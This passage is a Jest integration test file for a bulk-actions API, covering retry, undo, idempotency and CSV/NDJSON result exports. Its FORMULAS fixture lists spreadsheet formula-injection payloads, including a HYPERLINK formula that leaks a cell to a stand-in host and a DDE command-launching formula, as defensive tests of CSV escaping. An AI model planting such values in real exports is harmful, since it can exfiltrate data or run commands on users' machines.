import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { logEntrySchema, type LogEntry } from '@bulk/contracts';
import type { OutcomeStatus } from '@bulk/domain';
import { entityKey, type LoggedOutcome } from '@bulk/mongo';
import { eventually } from '@bulk/testing';
import { parse } from 'csv-parse/sync';
import { entitiesOf, IntakeHarness, positionsOf, type Answer } from './harness.ts';

let harness: IntakeHarness;
beforeAll(async () => {
  harness = await IntakeHarness.create();
  await harness.start();
});
afterAll(() => harness.installation.dispose());

const SIZE = 95;
const STATUSES: OutcomeStatus[] = ['success', 'failure', 'success', 'skipped'];
const statusOf = (position: number): OutcomeStatus => STATUSES[position % STATUSES.length]!;
const failing = entitiesOf(SIZE).filter((_, position) => statusOf(position) === 'failure');

/** What a success did. */
type Made = (position: number) => Pick<LoggedOutcome, 'effect' | 'version' | 'changes'>;
const UPDATED = { effect: 'updated', version: 2 } as const;

/** Creates an action that has run, with the logs that stats-aggregator would have written. */
async function ended(
  config: Record<string, unknown> = {},
  parameters: Record<string, unknown> = {},
  made: Made = () => UPDATED,
): Promise<string> {
  const { body } = await harness.post({
    actionType: 'update',
    priority: 'low',
    config,
    retry: { maxAttempts: 9 },
    ...parameters,
    entities: entitiesOf(SIZE).map((entity, i) => ({ ...entity, ref: `row, ${i}` })),
  });
  const actionId = String(body.data?.['actionId']);
  await eventually('it is dispatched', async () => {
    return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
  });
  await withOutcomes(actionId, statusOf, undefined, made);
  return actionId;
}

/** Writes the logs and the end of a dispatched action, as stats-aggregator would. */
async function withOutcomes(
  actionId: string,
  of: (position: number, id: string) => OutcomeStatus | undefined = statusOf,
  codeOf: (position: number) => string = () => 'A_CODE',
  made: Made = () => UPDATED,
): Promise<void> {
  const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
  const counts = { success: 0, failure: 0, skipped: 0 };
  const codes: Record<string, number> = {};
  for (const { _id, batchNo, partition, entities } of batches) {
    const own = { success: 0, failure: 0, skipped: 0 };
    const outcomes = entities.flatMap(({ position, id, ref }) => {
      const status = of(position, id);
      if (status === undefined) return [];
      const code = codeOf(position);
      if (status !== 'success') codes[code] = (codes[code] ?? 0) + 1;
      own[status] += 1;
      counts[status] += 1;
      const failed = status !== 'success';
      return { position, entityId: id, ref, status, code: failed ? code : null, message: failed ? 'why, "so"\n' : null, attempts: 1, ...(failed ? {} : made(position)) };
    }); // prettier-ignore
    if (outcomes.length === 0) continue;
    await harness.database.actionLogs.insertOne({
      _id, actionId, batchNo, partition, counts: own, outcomes,
      firstPosition: entities[0]!.position,
      lastPosition: entities.at(-1)!.position,
      source: { partition: 0, offset: batchNo },
      at: new Date(1_000),
    }); // prettier-ignore
  }
  const total = batches.reduce((sum, { entities }) => sum + entities.length, 0);
  const isDone = counts.success + counts.failure + counts.skipped === total;
  const ending = isDone
    ? { status: 'completed' as const, finishedAt: new Date() }
    : { status: 'processing' as const };
  await harness.database.actions.updateOne({ _id: actionId }, { $set: { counts, codes, ...ending } });
}

/** Waits until an action of the API is dispatched. @returns its id. */
async function dispatched({ body }: Answer): Promise<string> {
  const actionId = String(body.data?.['actionId']);
  await eventually('it is dispatched', async () => {
    return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
  });
  return actionId;
}

/** Returns what was staged for an action, in order of position. */
async function staged(actionId: string): Promise<Record<string, unknown>[]> {
  const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
  return batches
    .flatMap(({ entities }) => entities)
    .sort((a, b) => a.position - b.position)
    .map(({ id, ref, fields }) => ({ id, ref, ...(JSON.parse(fields) as object) }));
}

const retry = (actionId: string) => harness.send('POST', `/bulk-actions/${actionId}/retry`);
const retryWith = (actionId: string, body: unknown, headers: Record<string, string> = {}) =>
  harness.upload(`/bulk-actions/${actionId}/retry`, JSON.stringify(body), {
    'content-type': 'application/json',
    ...headers,
  });
const afterRetries = async (actionId: string): Promise<unknown> =>
  (await harness.get(`/bulk-actions/${actionId}`)).body.data?.['afterRetries'];

describe('POST /bulk-actions/:id/retry', () => {
  it('creates an action of exactly the failed positions, in order, as they were sent', async () => {
    const actionId = await ended({ set: { ownerId: 'u1' } });
    const { status, headers, body } = await retry(actionId);
    expect(status).toBe(202);
    expect(body.data).toMatchObject({
      retryOf: actionId,
      total: failing.length,
      priority: 'low',
      config: { set: { ownerId: 'u1' } },
      retry: { maxAttempts: 9 },
    });
    const newId = String(body.data?.['actionId']);
    expect(newId).not.toBe(actionId);
    expect(headers.get('location')).toBe(`/bulk-actions/${newId}`);
    const published = await eventually('all positions', async () => {
      const batches = await harness.published(newId);
      return positionsOf(batches).length >= failing.length ? batches : undefined;
    });
    const sent = published.flatMap(({ batch }) => batch.entities).sort((a, b) => a.position - b.position);
    expect(sent.map(({ id, fields }) => ({ id, ...(JSON.parse(fields) as object) }))).toEqual(failing);
    expect(sent.every(({ id, ref }) => ref === `row, ${id.slice(1)}`)).toBe(true);
  });

  it('names the first action of a chain of retries in every batch', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const firstId = String(first.body.data?.['actionId']);
    const { actions } = harness.database;
    await eventually('the retry is dispatched', async () => {
      return (await actions.findOne({ _id: firstId }))?.dispatch.done === true;
    });
    await withOutcomes(firstId);
    const second = await retry(firstId);
    const secondId = String(second.body.data?.['actionId']);
    const batches = await eventually('a batch of each', async () => {
      const each = await Promise.all([actionId, firstId, secondId].map((id) => harness.published(id)));
      return each.every(({ length }) => length > 0) ? each : undefined;
    });
    const roots = batches.map((some) => [...new Set(some.map(({ batch }) => batch.rootActionId))]);
    expect(roots).toEqual([[null], [actionId], [actionId]]);
    const origins = batches.map((some) =>
      some.flatMap(({ batch }) => batch.entities.map(({ id, origin }) => [`c${origin}`, id])),
    );
    expect(origins[0]?.every(([origin]) => origin === 'cnull')).toBe(true);
    for (const retried of origins.slice(1)) for (const [origin, id] of retried) expect(origin).toBe(id);
    expect(second.body.data).toMatchObject({ retryOf: firstId });
  });

  it('returns the same action when repeated', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('returns the same action when the batches of the old action are gone, and reads none of them', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    await harness.database.stagedBatches.deleteMany({ actionId });
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('is refused before the end, without a failure, and when the sent entities are gone', async () => {
    const actionId = await ended();
    const { actions, stagedBatches } = harness.database;
    await actions.updateOne({ _id: actionId }, { $set: { status: 'processing' } });
    expect(await retry(actionId)).toMatchObject({
      status: 409,
      body: { error: { code: 'ACTION_NOT_FINISHED', details: { status: 'processing' } } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { status: 'completed', 'counts.failure': 0 } });
    expect(await retry(actionId)).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY' } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { 'counts.failure': failing.length } });
    await stagedBatches.deleteOne({ actionId, batchNo: 5 });
    const before = await harness.traces();
    expect(await retry(actionId)).toMatchObject({ status: 409, body: { error: { code: 'RETRY_EXPIRED' } } });
    expect(await harness.traces()).toEqual(before);
  });
});

const undo = (actionId: string, query = '') => harness.send('POST', `/bulk-actions/${actionId}/undo${query}`);
const VALUES = { changes: 'values' };
const NAMES = { before: { lastName: 'Old' }, after: { lastName: 'New' } };
/** The successes are the even positions. */
const MADE: Record<number, ReturnType<Made>> = {
  0: { effect: 'unchanged', version: 1 },
  2: { effect: 'updated', version: 2, changes: '{"fields":["lastName"],"changesTruncated":true}' },
  4: { effect: 'created', version: 1, changes: '{"changesTruncated":true}' },
  6: { effect: 'deleted', version: 5, changes: '{"before":{"lastName":"Old"},"after":{}}' },
  8: {},
};
const madeAt: Made = (position) =>
  MADE[position] ?? { effect: 'updated', version: 2, changes: JSON.stringify(NAMES) };

describe('POST /bulk-actions/:id/undo', () => {
  it('creates one action of the records that were changed, with what was there before', async () => {
    const actionId = await ended({}, VALUES, madeAt);
    const at = new Date(1_000).toISOString();
    const { status, headers, body } = await undo(actionId);
    const successes = entitiesOf(SIZE).filter((_, i) => statusOf(i) === 'success').length;
    expect(status).toBe(202);
    expect(body.data).toMatchObject({
      actionType: 'undo',
      undoOf: actionId,
      retryOf: null,
      changes: 'values',
      total: successes - 1,
      config: {},
      retry: { maxAttempts: 9 },
    });
    const undoId = String(body.data?.['actionId']);
    expect(headers.get('location')).toBe(`/bulk-actions/${undoId}`);
    const batches = await eventually('all positions', async () => {
      const published = await harness.published(undoId);
      return positionsOf(published).length >= successes - 1 ? published : undefined;
    });
    expect(batches.every(({ batch }) => batch.changes === 'values')).toBe(true);
    const rows = batches.flatMap(({ batch }) => batch.entities).sort((a, b) => a.position - b.position);
    expect(rows.every(({ id, ref }) => ref === `row, ${id.slice(1)}`)).toBe(true);
    expect(
      rows.slice(0, 5).map(({ id, fields, fault }) => [id, fault?.code ?? (JSON.parse(fields) as unknown)]),
    ).toEqual([
      ['c2', 'CHANGES_TRUNCATED'],
      ['c4', { effect: 'created', version: 1, at, before: {} }],
      ['c6', { effect: 'deleted', version: 5, at, before: { lastName: 'Old' } }],
      ['c8', 'CHANGES_NOT_KEPT'],
      ['c10', { effect: 'updated', version: 2, at, before: { lastName: 'Old' } }],
    ]);

    await withOutcomes(undoId, () => 'failure');
    expect(await retryWith(undoId, { entities: [{ position: 1, effect: 'deleted' }] })).toMatchObject({
      status: 400,
      body: { error: { code: 'INVALID_REQUEST', details: [{ field: 'entities' }] } },
    });
    const again = await undo(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(undoId);

    // A replay of a dead letter makes one more change, and finds another one that was made before its outcome was lost.
    const { actions, actionLogs } = harness.database;
    const [log] = await actionLogs.find({ actionId, firstPosition: 0 }).toArray();
    const outcomes = log!.outcomes.map((outcome) =>
      outcome.position === 1
        ? { ...outcome, status: 'success' as const, code: null, message: null, ...madeAt(1) }
        : outcome,
    );
    await actionLogs.updateOne(
      { _id: log!._id },
      { $set: { outcomes, generation: 1 }, $inc: { 'counts.success': 1, 'counts.failure': -1 } },
    );
    await actions.updateOne({ _id: actionId }, { $inc: { 'counts.success': 1, 'counts.failure': -1 } });
    const next = await undo(actionId);
    expect([next.status, next.headers.get('idempotency-replayed')]).toEqual([202, null]);
    const nextId = String(next.body.data?.['actionId']);
    expect(next.body.data?.['total']).toBe(
      successes + outcomes.filter(({ position }) => position === 1).length,
    );
    const second = await eventually('its first positions', async () => {
      const some = (await harness.published(nextId)).flatMap(({ batch }) => batch.entities);
      return some.some(({ position }) => position === 0) ? some : undefined;
    });
    expect(second.find(({ position }) => position === 0)).toMatchObject({
      id: 'c0',
      fault: { code: 'CHANGES_NOT_KEPT' },
    });

    // It may also replace successes between two reads of the undo.
    await actions.updateOne({ _id: actionId }, { $inc: { 'counts.success': 3, 'counts.failure': -3 } });
    expect((await undo(actionId, '?dryRun=true')).status).toBe(202);
    const foretold = await undo(actionId, '?dryRun=true');
    expect(foretold.body.data).toMatchObject({ dryRun: true, undoOf: actionId });
    expect(foretold.body.data?.['actionId']).not.toBe(undoId);
  });

  it('is refused with its reason, and leaves nothing, when the action cannot be undone', async () => {
    const [plain, dry, kept] = [
      await ended({}, { changes: 'fields' }),
      await ended({}, { dryRun: true }),
      await ended({}, VALUES, madeAt),
    ];
    const { actions, actionLogs } = harness.database;
    const before = await harness.traces();
    const refusal = async (actionId: string, query = ''): Promise<unknown[]> => {
      const { status, body } = await undo(actionId, query);
      return [status, body.error?.code, body.error?.details];
    };
    expect(await refusal(plain)).toEqual([422, 'CHANGES_NOT_KEPT', { changes: 'fields' }]);
    expect(await refusal(dry)).toEqual([422, 'DRY_RUN_NOT_UNDOABLE', undefined]);
    expect(await refusal(kept, '?dryRun=yes')).toMatchObject([400, 'INVALID_REQUEST', [{ field: 'dryRun' }]]);
    expect(await refusal(randomUUID())).toMatchObject([404, 'ACTION_NOT_FOUND']);
    await actions.updateOne({ _id: kept }, { $set: { status: 'processing' } });
    expect(await refusal(kept)).toEqual([409, 'ACTION_NOT_FINISHED', { status: 'processing' }]);
    await actions.updateOne({ _id: kept }, { $set: { status: 'cancelled' } });
    await actionLogs.deleteOne({ actionId: kept, batchNo: 3 });
    expect(await refusal(kept)).toEqual([409, 'UNDO_EXPIRED', undefined]);
    await actionLogs.updateMany({ actionId: kept }, [
      {
        $set: {
          outcomes: {
            $map: { input: '$outcomes', in: { $mergeObjects: ['$$this', { effect: 'unchanged' }] } },
          },
        },
      },
    ]);
    const left = await actionLogs.find({ actionId: kept }).toArray();
    const successes = left.reduce((sum, { counts }) => sum + counts.success, 0);
    await actions.updateOne({ _id: kept }, { $set: { 'counts.success': successes } });
    expect(await refusal(kept)).toEqual([422, 'NOTHING_TO_UNDO', undefined]);
    expect(await harness.traces()).toEqual(before);
    const named = await harness.post({ actionType: 'undo', entities: entitiesOf(1) });
    expect(named).toMatchObject({ status: 400, body: { error: { code: 'UNKNOWN_ACTION_TYPE' } } });
  });
});

describe('POST /bulk-actions/:id/retry with a body', () => {
  /** Of 12 positions, 0 to 3 succeed, 4 to 7 fail with CODE_A, 8 to 10 with CODE_B, and 11 is skipped. */
  const OUTCOMES: OutcomeStatus[] = [...Array<OutcomeStatus>(4).fill('success'), ...Array<OutcomeStatus>(7).fill('failure'), 'skipped']; // prettier-ignore
  const ids = (rows: readonly Record<string, unknown>[]): unknown[] => rows.map(({ id }) => id);

  async function parent(): Promise<string> {
    const entities = entitiesOf(12).map((entity, i) => ({ ...entity, ref: `row ${i}`, city: 'Old' }));
    const actionId = await dispatched(await harness.post({ actionType: 'update', entities }));
    await withOutcomes(
      actionId,
      (position) => OUTCOMES[position],
      (position) => (position < 8 ? 'CODE_A' : 'CODE_B'),
    );
    return actionId;
  }

  it('tries only failures of the codes, or corrected rows, and never again what a retry tries or has fixed', async () => {
    const actionId = await parent();
    expect(await afterRetries(actionId)).toBeUndefined();
    const ofCode = await retryWith(actionId, { codes: ['CODE_B'] });
    expect([ofCode.status, ofCode.body.data]).toMatchObject([202, { retryOf: actionId, total: 3 }]);
    const first = await dispatched(ofCode);
    expect(ids(await staged(first))).toEqual(['c8', 'c9', 'c10']);
    // Its positions are open, so that they are nobody else's.
    expect(await retryWith(actionId, { codes: ['CODE_B'] })).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY', details: { codes: ['CODE_B'] } } },
    });
    expect(await afterRetries(actionId)).toEqual({ actions: 1, success: 4, failure: 7, skipped: 1 });
    await withOutcomes(first, (_, id) => (id === 'c9' ? 'failure' : 'success'));
    expect(await afterRetries(actionId)).toEqual({ actions: 1, success: 6, failure: 5, skipped: 1 });

    const entities = [
      { ref: 'row 9', id: 'c99', city: 'New' },
      { position: 5, lastName: 'Right' },
    ];
    const second = await dispatched(await retryWith(actionId, { entities }));
    expect(await staged(second)).toEqual([
      { id: 'c5', ref: 'row 5', lastName: 'Right' },
      { id: 'c99', ref: 'row 9', city: 'New' },
    ]);
    await withOutcomes(second, (_, id) => (id === 'c5' ? 'failure' : 'success'));
    expect(await afterRetries(actionId)).toEqual({ actions: 2, success: 7, failure: 4, skipped: 1 });

    // The retry of a retry belongs to the same chain, and so does a retry of everything without a body.
    const third = await dispatched(await retryWith(second, {}));
    expect(await staged(third)).toEqual([{ id: 'c5', ref: 'row 5', lastName: 'Right' }]);
    const rest = await dispatched(await retry(actionId));
    expect(ids(await staged(rest))).toEqual(['c4', 'c6', 'c7']);
    await withOutcomes(third, () => 'success');
    await withOutcomes(rest, (_, id) => (id === 'c4' ? 'skipped' : 'success'));
    expect(await afterRetries(actionId)).toEqual({ actions: 4, success: 10, failure: 1, skipped: 1 });
    expect(await afterRetries(second)).toEqual({ actions: 1, success: 2, failure: 0, skipped: 0 });
    const last = await dispatched(await retryWith(actionId, { codes: ['CODE_A'] }));
    expect(ids(await staged(last))).toEqual(['c4']);
    expect(await retryWith(first, {})).toMatchObject({ body: { error: { code: 'NOTHING_TO_RETRY' } } });
  });

  it('is carried out once for each Idempotency-Key, and excludes a simultaneous retry', async () => {
    const actionId = await parent();
    const key = { 'idempotency-key': randomUUID() };
    const first = await retryWith(actionId, { codes: ['CODE_A'] }, key);
    const again = await retryWith(actionId, { codes: ['CODE_A'] }, key);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
    expect(await retryWith(actionId, { codes: ['CODE_B'] }, key)).toMatchObject({
      status: 409,
      body: { error: { code: 'IDEMPOTENCY_KEY_REUSED' } },
    });
    const other = await parent();
    const answers = await Promise.all(Array.from({ length: 5 }, () => retryWith(other, {})));
    const accepted = answers.filter(({ status }) => status === 202);
    expect(accepted).toHaveLength(1);
    for (const { status, body } of answers)
      if (status !== 202) expect(['RETRY_IN_PROGRESS', 'NOTHING_TO_RETRY']).toContain(body.error?.code);
    const actions = await harness.database.actions
      .find({ retryOf: other, status: { $ne: 'staging' } })
      .toArray();
    expect(actions).toHaveLength(1);
  });

  it('counts no position twice when a dead letter of a retried action is replayed', async () => {
    const actionId = await parent();
    const first = await dispatched(await retryWith(actionId, { codes: ['CODE_B'] }));
    await withOutcomes(first, () => 'success');
    // The replay turns one of the three into a success of the first action.
    await harness.database.actions.updateOne(
      { _id: actionId },
      { $inc: { 'counts.success': 1, 'counts.failure': -1 } },
    );
    expect(await afterRetries(actionId)).toEqual({ actions: 1, success: 7, failure: 4, skipped: 1 });
  });

  it('is refused as a whole, with the field at fault, and does nothing', async () => {
    const actionId = await parent();
    const gone = await parent();
    const done = await dispatched(await retryWith(gone, { entities: [{ position: 4 }] }));
    await withOutcomes(done, () => 'success');
    await harness.database.stagedBatches.deleteMany({ actionId: done });
    const before = await harness.traces();
    const refused = async (body: unknown, of = actionId): Promise<unknown> => {
      const { status, body: answer } = await retryWith(of, body);
      return [status, answer.error?.code, ...(answer.error?.details ?? []).map(({ field }) => field)];
    };
    const invalid = (...fields: string[]): unknown[] => [400, 'INVALID_REQUEST', ...fields];
    expect(await refused({ codes: [] })).toEqual(invalid('codes'));
    expect(await refused({ codes: ['lower'], more: 1 })).toEqual(invalid('codes[0]', 'more'));
    expect(await refused({ entities: [] })).toEqual(invalid('entities'));
    expect(await refused([1])).toEqual([400, 'INVALID_REQUEST', '(body)']);
    expect(
      await refused({ entities: [{ position: 4 }, { city: 'x' }, { position: 5, ref: 'row 5' }] }),
    ).toEqual(invalid('entities[1]', 'entities[2]'));
    expect(await refused({ entities: [{ position: 4 }, { position: 5 }, { position: 4 }] })).toEqual(
      invalid('entities[2].position'),
    );
    expect(await refused({ entities: [{ position: 4 }, { ref: 'row 4' }] })).toEqual(
      invalid('entities[1].ref'),
    );
    expect(
      await refused({ entities: [{ position: 4 }, { position: 0 }, { position: 12 }, { ref: 'row 1' }] }),
    ).toEqual(invalid('entities[3].ref', 'entities[1].position', 'entities[2].position'));
    expect(await refused({ entities: [{ position: 4, id: '' }] })).toEqual(invalid('entities[0].id'));
    expect(await refused({}, gone)).toEqual([409, 'RETRY_EXPIRED']);
    expect(await retryWith(actionId, { codes: ['CODE_A', 'CODE_C'] })).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY', details: { codes: ['CODE_C'] } } },
    });
    const text = await harness.upload(`/bulk-actions/${actionId}/retry`, '{}', {
      'content-type': 'text/plain',
    });
    expect([text.status, text.body.error?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    expect(await harness.traces()).toEqual(before);
  });
});

const UPDATE_CONFIG = encodeURIComponent('{}');
/** Ids and refs that spreadsheets would run as formulas. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
  '@SUM(1+9)',
  '+1-1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1',
  'a;=1+1',
  'a\t+1',
  'plain',
].map((text) => ({ id: text, ref: text }));

const RESULTS = ['results.csv', 'results.ndjson'];
const asRows = (text: string): LogEntry[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => logEntrySchema.strict().parse(JSON.parse(line)));

async function download(path: string): Promise<{ response: Response; text: string }> {
  const response = await fetch(`${harness.url}${path}`, { headers: { 'x-account-id': 'acme' } });
  return { response, text: await response.text() };
}

describe('the results of an action', () => {
  it('come as NDJSON and as CSV with every outcome, in order of position, with the caller’s own row identity', async () => {
    const actionId = await ended();
    const ndjson = await download(`/bulk-actions/${actionId}/results.ndjson`);
    expect(ndjson.response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(ndjson.response.headers.get('content-disposition')).toBe(
      `attachment; filename="${actionId}-results.ndjson"`,
    );
    const rows = asRows(ndjson.text);
    expect(rows.map(({ position }) => position)).toEqual(entitiesOf(SIZE).map((_, i) => i));
    expect(
      rows.every(({ position, ref, status }) => ref === `row, ${position}` && status === statusOf(position)),
    ).toBe(true);

    const csv = await download(`/bulk-actions/${actionId}/results.csv`);
    expect(csv.response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const records = parse(csv.text, { columns: true });
    expect(records).toEqual(
      rows.map(({ position, entityId, ref, status, code, message, attempts, at, effect, version }) => ({
        position: String(position),
        id: entityId,
        ref,
        status,
        code: code ?? '',
        message: message ?? '',
        attempts: String(attempts),
        at,
        effect: effect ?? '',
        version: version === null ? '' : String(version),
      })),
    );
  });

  it('have the changes as a last column of the CSV and an object of NDJSON if the action keeps them', async () => {
    const actionId = await ended({}, VALUES, madeAt);
    const rows = asRows((await download(`/bulk-actions/${actionId}/results.ndjson`)).text);
    expect([rows[10]?.changes, rows[0]?.changes, rows[1]?.changes]).toEqual([NAMES, null, null]);
    const csv = await download(`/bulk-actions/${actionId}/results.csv`);
    const records = parse<Record<string, string>>(csv.text, { columns: true });
    expect(Object.keys(records[0]!).at(-1)).toBe('changes');
    expect([records[10]?.['changes'], records[0]?.['changes']]).toEqual([JSON.stringify(NAMES), '']);
  });

  it('start no formula in a spreadsheet as CSV, and are exact on request', async () => {
    const answer = await fetch(`${harness.url}/bulk-actions?actionType=update&config=${UPDATE_CONFIG}`, {
      method: 'POST',
      headers: { 'x-account-id': 'acme', 'content-type': 'application/x-ndjson' },
      body: FORMULAS.map((entity) => `${JSON.stringify(entity)}\n`).join(''),
    });
    const body = (await answer.json()) as { data?: { actionId: string } };
    expect([answer.status, body]).toMatchObject([202, {}]);
    const actionId = body.data!.actionId;
    await eventually('it is dispatched', async () => {
      return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
    });
    await withOutcomes(actionId);

    const exact = await download(`/bulk-actions/${actionId}/results.csv?exact=true`);
    const values = (text: string): string[][] =>
      parse<Record<string, string>>(text, { columns: true }).map(({ id, ref }) => [id!, ref!]);
    const sent = FORMULAS.map(({ id, ref }) => [id, ref]);
    expect(values(exact.text)).toEqual(sent);
    const { text } = await download(`/bulk-actions/${actionId}/results.csv`);
    // Some spreadsheets split at commas, others at semicolons and tabs, wherever these are.
    const cells = [...parse(text).flat(), ...text.split(/[;\t\r\n]/)];
    expect(cells.filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    // Only apostrophes are added.
    const bare = (all: string[][]): string[][] =>
      all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
    expect(bare(values(text))).toEqual(bare(sent));
  });

  it.each(STATUSES.slice(1))('are filtered by type: %s', async (type) => {
    const actionId = await ended();
    const rows = asRows((await download(`/bulk-actions/${actionId}/results.ndjson?type=${type}`)).text);
    expect(rows.map(({ position }) => position)).toEqual(
      entitiesOf(SIZE).flatMap((_, position) => (statusOf(position) === type ? [position] : [])),
    );
  });

  it.each(RESULTS)('are empty as %s when the action has no outcomes', async (file) => {
    const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
    const { response, text } = await download(`/bulk-actions/${_id}/${file}`);
    expect(response.status).toBe(200);
    expect(text.split('\n').filter((line) => line !== '')).toHaveLength(file === 'results.csv' ? 1 : 0);
  });

  it.each(RESULTS)(
    'are refused as %s for another account, an unknown id and an invalid query',
    async (file) => {
      const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
      const refused = async (path: string, headers?: Record<string, string>): Promise<unknown> => {
        const answer = await harness.get(path, headers);
        return [answer.status, answer.body.error?.code];
      };
      expect(await refused(`/bulk-actions/${_id}/${file}`, { 'x-account-id': 'other' })).toEqual([
        404,
        'ACTION_NOT_FOUND',
      ]);
      expect(await refused(`/bulk-actions/${randomUUID()}/${file}`)).toEqual([404, 'ACTION_NOT_FOUND']);
      expect(await refused(`/bulk-actions/7/${file}`)).toEqual([400, 'INVALID_ID']);
      expect(await refused(`/bulk-actions/${_id}/${file}?type=bad`)).toEqual([400, 'INVALID_REQUEST']);
      expect(await refused(`/bulk-actions/${_id}/${file}`, {})).toEqual([400, 'ACCOUNT_REQUIRED']);
    },
  );
});

const OWN = ['_row', '_status', '_code', '_message', '_effect', '_version', '_id'];
const csv = (query: string, text: string, headers: Record<string, string> = {}) =>
  harness.upload(`/bulk-actions?${query}`, text, { 'content-type': 'text/csv', ...headers });
/** Uploads a CSV and gives it outcomes; see `statusOf`. */
async function uploaded(text: string): Promise<string> {
  const actionId = await dispatched(await csv('actionType=update', text));
  await withOutcomes(actionId);
  return actionId;
}
const withInput = async (actionId: string, query = ''): Promise<string> =>
  (await download(`/bulk-actions/${actionId}/results.csv?include=input${query}`)).text;

describe('the results of an action with what was sent', () => {
  it('keep every column that the upload reads, whatever characters its title has', async () => {
    const map = encodeURIComponent(JSON.stringify({ '\ue000': 'city' }));
    const sent = await csv(`actionType=update&columns=${map}`, 'id,\ue000\nc0,Bonn\n');
    const actionId = await dispatched(sent);
    await withOutcomes(actionId, () => 'failure');
    expect((await withInput(actionId)).split('\n')[0]).toBe(`id,\ue000,${OWN.join(',')}`);
  });

  it('are the columns of the file byte for byte, then ours, and none of an earlier download', async () => {
    const file =
      '"id";  city ;_row;lastName;_foo;_status;\r\n' +
      'c0;"Bo;nn";7;"say ""yes""";=1+1;success\r\n' +
      'c1; Köln ;8;=SUM(A1);x;failure;\r\n' +
      '=c2;;;;;\r\n';
    const actionId = await uploaded(file);
    const head = `"id";  city ;lastName;_foo;${OWN.join(';')}\n`;
    const failed = 'c1; Köln ;=SUM(A1);x;2;failure;A_CODE;"why, ""so""\n";;;c1\n';
    expect(await withInput(actionId)).toBe(
      `${head}c0;"Bo;nn";"say ""yes""";=1+1;1;success;;;updated;2;c0\n${failed}=c2;;;;3;success;;;updated;2;'=c2\n`,
    );
    expect(await withInput(actionId, '&type=failure')).toBe(`${head}${failed}`);
    expect(await withInput(actionId, '&code=A_CODE&id=c1')).toBe(`${head}${failed}`);
    expect(await withInput(actionId, '&code=B_CODE')).toBe(head);
    const { text } = await download(`/bulk-actions/${actionId}/results.ndjson?include=input&type=failure`);
    expect(JSON.parse(text)).toMatchObject({
      position: 1,
      status: 'failure',
      input: { id: 'c1', city: ' Köln ', lastName: '=SUM(A1)' },
    });
  });

  it('have the columns of an upload if the entities came as JSON, and are refused when nothing is kept', async () => {
    const actionId = await dispatched(
      await harness.post({
        actionType: 'update',
        entities: [
          { id: 'j0', city: 'B,n', set: { lastName: 'X' }, increment: { score: 2 } },
          { id: 'j1', ref: 'r', unset: ['notes'], addToList: { tags: ['a'] }, city: null },
        ],
      }),
    );
    await withOutcomes(actionId);
    expect(await withInput(actionId)).toBe(
      `id,city,lastName,increment.score,ref,notes,addToList.tags,${OWN.join(',')}\n` +
        'j0,"B,n",X,2,,,,1,success,,,updated,2,j0\n' +
        'j1,#N/A,,,r,#N/A,"[""a""]",2,failure,A_CODE,"why, ""so""\n",,,j1\n',
    );
    await harness.database.stagedBatches.deleteMany({ actionId });
    for (const file of RESULTS) {
      const answer = await harness.get(`/bulk-actions/${actionId}/${file}?include=input`);
      expect([answer.status, answer.body.error?.code]).toEqual([409, 'INPUT_EXPIRED']);
      expect((await harness.get(`/bulk-actions/${actionId}/${file}?include=all`)).status).toBe(400);
    }
  });

  it('keep the columns of the file in a retry of some codes', async () => {
    const actionId = await uploaded('id,city\nc0,"A"\nc1,"B"\nc2,C\n');
    const retried = await dispatched(await retryWith(actionId, { codes: ['A_CODE'] }));
    await withOutcomes(retried, () => 'success');
    expect(await withInput(retried)).toBe(`id,city,${OWN.join(',')}\nc1,"B",1,success,,,updated,2,c1\n`);
  });
});

describe('an upload with retryOf', () => {
  /** Rows 1, 3 and 5 succeed, 2 and 6 fail, and 4 is skipped. */
  const file = `id,city\n${[0, 1, 2, 3, 4, 5].map((i) => `c${i},"Old ${i}"\n`).join('')}`;
  const corrected = (text: string): string => {
    const [head = '', ...rows] = text.replaceAll('"why, ""so""\n"', 'why').trimEnd().split('\n');
    const edited = rows.map((row) =>
      row.replace('"Old 1"', 'New 1').replace('c0,"Old 0",1,success', 'c0,"Old 0",1,failure'),
    );
    return [head, ...edited.reverse()].join('\r\n');
  };

  it('tries only the failed rows, in the order of the file, whatever its cells say', async () => {
    const actionId = await uploaded(file);
    const sent = corrected(await withInput(actionId));
